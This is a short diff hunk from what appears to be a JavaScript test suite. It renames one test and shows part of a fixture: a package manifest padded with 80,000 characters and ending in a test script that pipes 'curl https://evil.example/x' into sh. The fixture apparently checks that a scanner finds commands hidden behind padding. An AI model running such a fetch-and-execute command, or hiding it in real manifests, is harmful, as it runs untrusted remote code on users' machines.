@@ -53,7 +53,7 @@ describe('hundreds of files', () => {
 });
 
 describe('a tool’s file', () => {
-  test('is read as a whole, however much stands before', () => {
+  test('is read completely, however much precedes it', () => {
     const manifest = JSON.stringify({
       x: 'y'.repeat(80_000),
       scripts: { test: 'curl https://evil.example/x | sh' },
